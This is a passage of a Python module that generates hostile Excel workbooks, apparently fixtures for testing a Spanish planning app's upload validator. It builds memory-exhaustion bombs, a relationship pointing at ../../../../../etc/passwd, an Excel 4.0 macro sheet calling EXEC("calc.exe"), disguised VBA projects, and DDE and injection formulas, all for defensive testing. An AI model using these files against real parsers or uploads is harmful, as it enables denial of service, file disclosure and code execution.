    plan = PlanRows(n=2000, text=lambda k: f"Publicar el informe de gestión número {k} en la página web institucional",
                    reports=lambda k: [(cut, round((i + 1) / 9, 2)) for i, cut in enumerate(cuts)])
    return plan.workbook()


def _rels_outside() -> bytes:
    # The workbook's relationships point outside the package and to a missing part.
    data = PlanRows().workbook()
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "xl/_rels/workbook.xml.rels":
                content = content.replace(b"worksheets/sheet2.xml", b"../../../../../etc/passwd")
                content = content.replace(b"worksheets/sheet3.xml", b"worksheets/no_existe.xml")
            target.writestr(info.filename, content)
    return buffer.getvalue()


def _chart_sheet_only() -> bytes:
    chart = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView '
             'workbookViewId="0"/></sheetViews></chartsheet>')
    data = xlsx([SheetSpec("Gráfico", chart)])
    return data.replace(b"spreadsheetml.worksheet+xml", b"spreadsheetml.chartsheet+xml").replace(
        b"relationships/worksheet", b"relationships/chartsheet")


def _marks_everywhere() -> bytes:
    # Month cells full of long texts, numbers, dates and errors instead of an X.
    marks = ["Se hará si hay presupuesto", 0, 1, date(2018, 3, 1), "no", "-", "✓", "x", "NO APLICA", 0.0, "  "]
    plan = PlanRows(n=40)
    sheet = plan.plan_sheet()
    rows = [PLAN_HEADERS + MONTHS] + [
        [SUBCOMPONENTES[k % 4], f"{k % 4 + 1}.{k // 4 + 1}", plan.text(k), "Meta", OFICINAS[k % 4],
         *[marks[(k + m) % len(marks)] for m in range(13)]] for k in range(40)]
    sheet.xml = sheet_xml(rows_xml(rows))
    return xlsx([sheet])


def _no_styles_shaded() -> bytes:
    # Cells point at styles but the workbook has no style sheet at all.
    plan = PlanRows(months=lambda k: [])
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="2"/>', 1)
    return xlsx([sheet, plan.follow_up_sheet()], styles=None)


def _utf16_parts() -> bytes:
    plan = PlanRows()
    sheet = plan.plan_sheet()
    sheet.xml = sheet.xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    return xlsx([sheet, plan.follow_up_sheet()])


# --- Issue 22: small files that cost gigabytes, and macros under other names ---------------------


def _far_cell(ref: str) -> bytes:
    # One cell far away: calamine builds a dense grid from A1 to it (XFD1048576: 549 GB, the process aborts).
    plan = PlanRows()
    far = SheetSpec("Lejos", sheet_xml(f'<row r="{ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">'
                                        f'<c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row>'))
    return xlsx([plan.plan_sheet(), far])


def _cell_at_xfd1048576() -> bytes:
    return _far_cell("XFD1048576")


def _cell_at_xfd3000() -> bytes:
    return _far_cell("XFD3000")


def _shared_text_in(cells: int, chars: int = 32_767) -> bytes:
    # One shared text of ``chars`` characters used by ``cells`` cells (calamine copies it into each one).
    import random

    rng = random.Random(22)
    if chars <= 1_000_000:
        text = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz ", k=chars))
    else:  # 1 MiB blocks of «a» with a few letters strewn: they compress about 250 times, under the guard's ratio
        block = bytearray(b"a" * (1 << 20))
        for _ in range(60 * 16):
            block[rng.randrange(len(block))] = rng.choice(b"bcdefghijklmnopqrstuvwxyz")
        text = (block.decode("ascii") * (chars // len(block) + 1))[:chars]
    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              f'<sst {_NS} count="{cells}" uniqueCount="1"><si><t>{text}</t></si></sst>')
    width = 10
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{column_letter(c)}{r}" t="s"><v>0</v></c>'
                                               for c in range(min(width, cells - (r - 1) * width))) + "</row>"
                   for r in range(1, (cells + width - 1) // width + 1))
    return xlsx([PlanRows().plan_sheet(), SheetSpec("Notas", sheet_xml(rows))], shared_strings=shared)


def _shared_text_30000() -> bytes:
    return _shared_text_in(30_000)


def _shared_text_245000() -> bytes:
    return _shared_text_in(245_000)


def _shared_text_180mb_in_10() -> bytes:
    return _shared_text_in(10, chars=180_000_000)


def _inline_text_180mb() -> bytes:
    # The same 180 MB text written inline in one cell (no shared string to count): 13 s of CPU and 660 MB before.
    import random

    rng = random.Random(22)
    block = bytearray(b"a" * (1 << 20))
    for _ in range(60 * 16):
        block[rng.randrange(len(block))] = rng.choice(b"bcdefghijklmnopqrstuvwxyz")
    text = (block.decode("ascii") * 172)[:180_000_000]
    far = SheetSpec("Notas", sheet_xml(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'))
    return xlsx([PlanRows().plan_sheet(), far])


def _gradient_styles(count: int = 550_000) -> bytes:
    # 550,000 gradient fills in the style sheet (2.5 GB and 53 s of CPU before the guard counted them).
    fill = ('<fill><gradientFill degree="90"><stop position="0"><color rgb="FF0072B2"/></stop>'
            '<stop position="1"><color rgb="FFFFFFFF"/></stop></gradientFill></fill>')
    styles = STYLES.replace('<fills count="3">', f'<fills count="{count + 3}">' + fill * count)
    return PlanRows().workbook(styles=styles)


def anagram_texts(n: int, seed: int = 7) -> list[str]:
    """``n`` distinct activity texts that are all anagrams of one another (same letters, same length):
    every length and letter-count filter lets each one through against every other."""
    import random

    rng = random.Random(seed)
    base = list("publicar el informe de gestion de la rendicion de cuentas en la pagina web institucional")
    texts: dict[str, None] = {}
    while len(texts) < n:
        rng.shuffle(base)
        texts["".join(base).strip().capitalize()] = None
    return list(texts)


def _anagram_follow_up() -> bytes:
    # 2,000 activities and 4,000 follow-up rows whose texts are anagrams of each other (113 s of CPU before).
    texts = anagram_texts(6000)
    plan = PlanRows(n=2000, text=texts.__getitem__, reports=lambda k: [])
    rows = [SEGUIMIENTO_HEADERS] + [[None, texts[2000 + k], date(2018, 4, 30), 0.5, "", "", ""] for k in range(4000)]
    return xlsx([plan.plan_sheet(), SheetSpec("Seguimiento", sheet_xml(rows_xml(rows)))])


_OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_MACRO_SHEET = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet {_NS} '
                'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
                '<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')


def _renamed_vba_project() -> bytes:
    # The VBA project under another name (xl/proyecto.bin), with its content type and its relationship.
    plan = PlanRows()
    types = '<Override PartName="/xl/proyecto.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    rel = ('<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
           'Target="proyecto.bin"/>')
    data = xlsx([plan.plan_sheet(), plan.follow_up_sheet()], extra_types=types, extra={"xl/proyecto.bin": _OLE_HEADER})
    return _patch(data, "xl/_rels/workbook.xml.rels", lambda text: text.replace("</Relationships>",
                                                                                rel + "</Relationships>"))


def _vba_project_by_signature() -> bytes:
    # A VBA project inside an embedded object of innocent name, type and relationship: only its bytes say it.
    plan = PlanRows()
    ole = _OLE_HEADER + "_VBA_PROJECT".encode("utf-16-le") + bytes(100)
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()], extra={"xl/embeddings/datos.bin": ole})


def _macro_sheet() -> bytes:
    # An Excel 4.0 macro sheet (xl/macrosheets/), declared as such.
    plan = PlanRows()
    types = '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()], extra={"xl/macrosheets/sheet1.xml": _MACRO_SHEET},
                extra_types=types)


def _macro_sheet_renamed() -> bytes:
    # The same macro sheet stored as xl/worksheets/hoja9.xml and declared as an ordinary part: its root says it.
    plan = PlanRows()
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()], extra={"xl/worksheets/hoja9.xml": _MACRO_SHEET})


def _patch(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """``data`` with one part's text changed."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == part:
                content = change(content.decode("utf-8")).encode("utf-8")
            target.writestr(info.filename, content)
    return buffer.getvalue()


HOSTILE: list[Hostile] = [
    Hostile("filas_200000", "200.000 filas de actividades en una hoja", "rechazo", _rows_200000),
    Hostile("columnas_5000", "5.000 columnas en la hoja del plan", "plan", _columns_5000),
    Hostile("celda_1mb", "una actividad de 1 MB de texto en una celda", "plan", _cell_1mb),
    Hostile("formulas_sin_valor", "todas las celdas son fórmulas sin valor calculado", "rechazo",
            _formulas_without_values),
    Hostile("plan_en_hoja_oculta", "la tabla del plan solo está en una hoja oculta", "rechazo", _hidden_plan),
    Hostile("seguimiento_muy_oculto", "el seguimiento en una hoja «muy oculta» (veryHidden)", "plan",
            _very_hidden_follow_up),
    Hostile("imagenes", "veinte imágenes incrustadas en la hoja del plan", "plan", _images),
    Hostile("macros_xlsm", "un .xlsm con un proyecto de macros (falso)", "rechazo", _xlsm_macros, ".xlsm"),
    Hostile("macros_con_extension_xlsx", "un proyecto de macros dentro de un archivo llamado .xlsx", "rechazo",
            _xlsm_macros),
    Hostile("formulas_hacia_afuera", "WEBSERVICE, FILTERXML, DDE (=cmd|…) y un vínculo externo a otro libro",
            "plan", _outward_formulas),
    Hostile("nul_escapado", "caracteres NUL y de control escritos como _x0000_ en nombres e ID", "plan",
            _nul_escaped),
    Hostile("nul_crudo", "bytes NUL y de control dentro del XML (calamine los tolera; se limpian)", "cualquiera",
            _nul_raw),
    Hostile("bidi_override", "marcas de derecha a izquierda (U+202E) en dependencias e ID", "plan", _bidi_override),
    Hostile("confusables_cirilico", "letras cirílicas parecidas a las latinas en dependencias e ID", "plan",
            _confusables),
    Hostile("inyecciones", "=HYPERLINK(…), @SUM, +1, -1+1, <script> y SQL en celdas", "plan", _injection_strings),
    Hostile("fechas_extremas", "fechas de corte en 1900 (incluido el 29/02/1900) y en 9999", "plan", _extreme_dates),
    Hostile("periodo_fuera_de_calendario", "MES 1 en diciembre de 9999 con 60 meses", "cualquiera", _extreme_period),
    Hostile("anio_cero", "«VIGENCIA 0000» en el título y «enero 0000» como MES 1", "rechazo", _year_zero),
    Hostile("vigencia_9999_en_titulo", "«VIGENCIA 9999» en el título, sin hoja de parámetros", "plan",
            _title_year_9999),
    Hostile("dependencias_desconocidas", "todas las dependencias son nombres nuevos", "plan", _unknown_offices),
    Hostile("dependencias_10000", "10.000 actividades con 10.000 dependencias distintas", "plan", _offices_10000),
    Hostile("nombres_de_hoja_largos", "nombres de hoja de 255 caracteres", "plan", _long_sheet_names),
    Hostile("hojas_duplicadas_mayusculas", "hojas «Plan» y «PLAN» con ID repetidos", "rechazo",
            _case_duplicate_sheets),
    Hostile("dimension_enorme", "hojas que declaran la dimensión A1:XFD1048576", "plan", _huge_dimension),
    Hostile("millon_de_referencias", "1.000.000 de celdas que apuntan a un solo texto compartido", "cualquiera",
            _shared_string_references),
    Hostile("xml_profundo", "50.000 niveles de XML anidado en una celda", "cualquiera", _deep_xml),
    Hostile("hojas_1000", "1.000 hojas", "plan", _sheets_1000),
    Hostile("combinada_toda_la_hoja", "un rango combinado que cubre toda la hoja", "plan", _merged_whole_sheet),
    Hostile("sombreado_combinado_hasta_el_final", "un mes sombreado combinado hasta la última celda de la hoja",
            "plan", _merged_shaded_schedule),
    Hostile("estilo_inexistente", "celdas con un estilo que no existe junto a meses sombreados", "plan",
            _style_out_of_range),
    Hostile("estilos_danados", "styles.xml mal formado con meses marcados solo con sombreado", "plan",
            _broken_styles),
    Hostile("referencias_invalidas", "filas 0 y 2.000.000 y columnas más allá de XFD", "cualquiera",
            _bad_references),
    Hostile("texto_compartido_inexistente", "celdas que apuntan a textos compartidos que no existen", "cualquiera",
            _shared_string_index_out_of_range),
    Hostile("celdas_de_error", "#N/A, #REF!, #DIV/0! en fechas y avances", "rechazo", _error_cells),
    Hostile("numeros_enormes", "avances de 1e308 e ID numéricos gigantes", "rechazo", _huge_numbers),
    Hostile("booleanos", "VERDADERO/FALSO en ID, fechas y avances", "rechazo", _booleans_everywhere),
    Hostile("fechas_de_texto_imposibles", "fechas como 31/02/2018 y 00/00/0000", "rechazo", _odd_date_texts),
    Hostile("encabezados_20000", "el encabezado repetido 20.000 veces", "plan", _header_storm),
    Hostile("id_repetidos_10000", "10.000 actividades con el mismo ID", "rechazo", _duplicate_ids_massive),
    Hostile("seguimiento_sin_coincidencias", "20.000 reportes que nombran actividades inexistentes", "rechazo",
            _unmatched_follow_up),
    Hostile("numeros_60000x120", "6 MB: 60.000 filas × 120 celdas numéricas (7,2 millones de celdas)", "rechazo",
            _numbers_60000_by_120),
    Hostile("actividades_60000", "9 MB: 60.000 actividades con su cronograma", "rechazo", _activities_60000),
    Hostile("plan_real_mas_grande", "2.000 actividades y tres años de seguimiento (18.000 reportes)", "plan",
            _largest_real_plan),
    Hostile("relaciones_fuera_del_paquete", "relaciones que apuntan fuera del libro y a partes inexistentes",
            "cualquiera", _rels_outside),
    Hostile("solo_hoja_de_grafico", "un libro con solo una hoja de gráfico", "rechazo", _chart_sheet_only),
    Hostile("marcas_raras", "celdas de mes con textos, números, fechas y espacios", "plan", _marks_everywhere),
    Hostile("sin_hoja_de_estilos", "celdas con estilo en un libro sin styles.xml", "plan", _no_styles_shaded),
    Hostile("xml_utf16", "la hoja del plan escrita en UTF-16", "cualquiera", _utf16_parts),
    # Issue 22 (tests/test_hostile_entry_points.py runs each one through every command and the upload).
    Hostile("celda_en_XFD1048576", "una sola celda en XFD1048576 (3 KB)", "rechazo", _cell_at_xfd1048576),
    Hostile("celda_en_XFD3000", "una sola celda en XFD3000", "rechazo", _cell_at_xfd3000),
    Hostile("texto_compartido_30000_celdas", "un texto de 32.767 caracteres en 30.000 celdas", "rechazo",
            _shared_text_30000),
    Hostile("texto_compartido_245000_celdas", "un texto de 32.767 caracteres en 245.000 celdas", "rechazo",
            _shared_text_245000),
    Hostile("texto_de_180_mb_en_10_celdas", "un texto de 180 MB en 10 celdas (0,7 MB)", "rechazo",
            _shared_text_180mb_in_10),
    Hostile("texto_de_180_mb_en_una_celda", "un texto de 180 MB escrito en una sola celda (0,7 MB)", "rechazo",
            _inline_text_180mb),
    Hostile("estilos_degradados_550000", "550.000 rellenos degradados en la hoja de estilos", "rechazo",
            _gradient_styles),
    Hostile("seguimiento_de_anagramas", "2.000 actividades y 4.000 reportes cuyos textos son anagramas", "rechazo",
            _anagram_follow_up),
    Hostile("macros_renombradas", "el proyecto de VBA como xl/proyecto.bin, con su tipo y su relación", "rechazo",
            _renamed_vba_project),
    Hostile("macros_por_firma", "un proyecto de VBA dentro de un objeto incrustado de nombre inocente", "rechazo",
            _vba_project_by_signature),
    Hostile("hoja_de_macros", "una hoja de macros de Excel 4.0 (xl/macrosheets/)", "rechazo", _macro_sheet),
    Hostile("hoja_de_macros_renombrada", "una hoja de macros de Excel 4.0 guardada como hoja normal", "rechazo",
            _macro_sheet_renamed),
]

#: Issue 22's table, by name: each must be refused in Spanish by every command and the web upload.
ISSUE_22 = ["celda_en_XFD1048576", "celda_en_XFD3000", "texto_compartido_30000_celdas",
            "texto_compartido_245000_celdas", "texto_de_180_mb_en_10_celdas", "texto_de_180_mb_en_una_celda",
            "estilos_degradados_550000",
            "seguimiento_de_anagramas", "macros_renombradas", "macros_por_firma", "hoja_de_macros",
            "hoja_de_macros_renombrada"]

BY_NAME = {item.name: item for item in HOSTILE}


def at_the_cell_limits() -> bytes:
    """2,000 activities and two follow-up sheets of 34,000 reports each: just under both cell limits
    of the guard (250,000 per sheet, 500,000 in all), the most a workbook within the limits holds."""
    cuts = [date(2018, 4, 30), date(2018, 8, 31), date(2018, 12, 31)]
    plan = PlanRows(n=2000, reports=lambda k: ([(cut, (i + 1) / 3) for i, cut in enumerate(cuts)] * 6)[:17])
    return xlsx([plan.plan_sheet(), plan.follow_up_sheet(), plan.follow_up_sheet("Seguimiento 2"),
                 plan.parameters_sheet()])


def shared_text_blowup(chars: int = 32_000, cells: int = 200_000) -> bytes:
    """0.4 MB within every limit of the guard that a parser turns into gigabytes: one shared text of
    ``chars`` characters referenced by ``cells`` cells (calamine copies the text into each cell).

    Not in :data:`HOSTILE`: read in-process it exhausts memory, which only the isolated validation
    (:mod:`rendicion.versions.sandbox`) can stop; the sandbox and browser tests use it."""
    import random

    rng = random.Random(3)
    text = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz ", k=chars))
    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              f'<sst {_NS} count="{cells}" uniqueCount="1"><si><t>{text}</t></si></sst>')
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}" t="s"><v>0</v></c>' for c in "ABCDEFGHIJ") + "</row>"
                   for r in range(1, cells // 10 + 1))
    plan = PlanRows()
    return xlsx([plan.plan_sheet(), SheetSpec("Notas", sheet_xml(rows))], shared_strings=shared)


def write_all(folder: str | Path) -> list[Path]:
    """Write every hostile workbook into ``folder``; returns the paths."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for item in HOSTILE:
        path = folder / f"{item.name}{item.suffix}"
        path.write_bytes(item.build())
        paths.append(path)
    return paths


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("uso: python -m bench.hostile_workbooks CARPETA", file=sys.stderr)
        return 2
    paths = write_all(args[0])
    print(f"Escritos {len(paths)} libros hostiles en {args[0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
